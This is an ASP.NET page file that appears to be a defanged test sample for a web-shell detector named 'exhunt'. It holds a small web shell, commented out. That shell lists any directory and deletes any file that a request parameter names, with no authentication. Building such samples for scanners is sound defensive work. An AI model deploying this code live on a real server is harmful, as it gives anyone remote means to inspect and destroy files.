<%@ Page Language="C#" %>
<%-- exhunt test sample, defanged: everything below is inside an ASP.NET
     server-side comment and is never compiled. A file manager that lists
     and deletes any path the request names.
<%
foreach (var f in new System.IO.DirectoryInfo(Request["exhunt_dir"]).GetFileSystemInfos())
    Response.Write(f.FullName + "<br>");
if (Request["exhunt_del"] != null)
    System.IO.File.Delete(Request["exhunt_del"]);
%>
--%>
